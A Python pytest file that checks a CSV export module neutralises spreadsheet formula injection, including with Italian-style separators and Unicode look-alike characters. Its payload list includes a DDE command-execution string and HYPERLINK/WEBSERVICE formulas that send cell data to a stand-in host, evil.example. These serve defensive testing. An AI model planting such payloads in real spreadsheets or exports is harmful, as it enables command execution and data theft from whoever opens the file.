"""A table for a spreadsheet holds text, whatever somebody wrote: no cell of it is ever computed."""

import csv
import io
import unicodedata

import pytest

from hub.tables import csv_text, inert

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"clic")',
    '=WEBSERVICE("http://evil.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "⁼1+1",
    "−1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x0b=1+1",
    '"=1+1',
    "'=1+1",
    "ciao;=1+1",
    "ciao,=1+1;=2",
    'ciao","=1+1"',
    'ciao";"=1+1"',
    "ciao\t=1+1",
    "ciao\n=1+1",
    "ciao\r@SUM(1)",
    "ciao; ;＝1+1",
    "\x00=1+1",
]


def computes(cell: str) -> bool:
    """Whether a spreadsheet would take this cell for a formula."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    first = cell.lstrip(' \u00a0\u3000\ufeff\u200b"')[:1]
    return first != "" and unicodedata.normalize("NFKC", first)[:1] in "=+-@−"


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_a_formula_is_inert_wherever_a_spreadsheet_splits_the_line(payload, separator):
    text = csv_text(["commento", "stelle"], [["prima", payload], [payload, 3]]).removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    assert [cell for cell in cells if computes(cell)] == []


def test_the_sweep_itself_finds_formulas():
    assert all(computes(payload) for payload in ("=1", " =1", "＝1", "\t", "@x")) and not computes("ciao")


def test_what_is_no_formula_stays_as_it_is():
    assert [inert(value) for value in ("Tutto chiaro, grazie: 3 stelle = bene", 'Detto "così"', "", None, -3, 2.5)] == [
        "Tutto chiaro, grazie: 3 stelle = bene",
        'Detto "così"',
        "",
        None,
        -3,
        2.5,
    ]


def test_a_table_reads_back_as_it_was():
    text = csv_text(["pagina", "stelle", "commento"], [["/spazi", 4, 'Dice: "bene"; poi\nva a capo'], ["/", -1, None]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert rows == [["pagina", "stelle", "commento"], ["/spazi", "4", 'Dice: "bene"; poi\nva a capo'], ["/", "-1", ""]]


def test_a_number_with_a_fraction_has_the_comma_that_an_italian_spreadsheet_expects():
    assert csv_text(["Ore"], [[40.0], [19.5], [7], [None]]).splitlines()[1:] == ["40", '"19,5"', "7", '""']
